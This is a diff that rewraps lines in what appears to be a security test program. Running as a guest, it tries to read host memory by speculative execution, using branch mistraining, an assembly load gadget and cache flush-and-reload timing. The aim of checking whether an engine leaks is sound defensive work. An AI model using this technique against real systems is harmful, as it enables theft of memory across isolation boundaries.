@@ -1,9 +1,11 @@
 /*
- * Reads host memory by speculation, if the engine lets it: past a branch of the guest's own that is mispredicted, the lookup of an
- * address that is not cached is mispredicted as well, and what the access then finds is told by a cache line. The address comes
- * from the console, and the bytes go there: the test compares them with what lies in the machine process.
+ * Reads host memory by speculation, if the engine lets it: past a branch of the guest's own that is
+ * mispredicted, the lookup of an address that is not cached is mispredicted as well, and what the
+ * access then finds is told by a cache line. The address comes from the console, and the bytes go
+ * there: the test compares them with what lies in the machine process.
  *
- * The lookup's branch resolves late, because many older ones become ready with it; that gives the two loads their time.
+ * The lookup's branch resolves late, because many older ones become ready with it; that gives the
+ * two loads their time.
  */
 #include "guest.h"
 
@@ -13,7 +15,10 @@ static uint8_t probe[(VALUES + 1) * STRIDE] __attribute__((aligned(4096)));
 static uint64_t slow[64] __attribute__((aligned(64)));
 static uint8_t harmless[64] __attribute__((aligned(64)));
 
-/* rdi: address, rsi: probe, rdx: zero in memory that is not cached when the address is the attacker's, rcx: 0 architecturally to read. */
+/*
+ * rdi: address, rsi: probe, rdx: zero in memory that is not cached when the address is the
+ * attacker's, rcx: 0 architecturally to read.
+ */
 void gadget(const void *address, const uint8_t *probe, const uint64_t *slow, uint64_t skip);
 __asm__(".p2align 12\n"
 	"gadget: mov (%rdx), %rax\n"
@@ -31,7 +36,10 @@ __asm__(".p2align 12\n"
 	"1: ret\n"
 	".p2align 12\n");
 
-static inline void flush(const void *at) { __asm__ volatile("clflush (%0)" : : "r"(at) : "memory"); }
+static inline void flush(const void *at)
+{
+	__asm__ volatile("clflush (%0)" : : "r"(at) : "memory");
+}
 static inline void fence(void) { __asm__ volatile("mfence; lfence" : : : "memory"); }
 
 static uint64_t time_of(const volatile uint8_t *at)
@@ -88,7 +96,8 @@ static void attack(const uint8_t *address)
 		/* the attacker's turn without a branch: its history would tell */
 		uint64_t turn = (uint64_t)(-(int64_t)(rnd() % TRAININGS)) >> 63; /* 1: training */
 		uint64_t mask = turn - 1;
-		const uint8_t *at = (const uint8_t *)(((uint64_t)address & mask) | ((uint64_t)harmless & ~mask));
+		const uint8_t *at = (const uint8_t *)(((uint64_t)address & mask) |
+						      ((uint64_t)harmless & ~mask));
 
 		flush(slow);
 		flush(slow + 16);
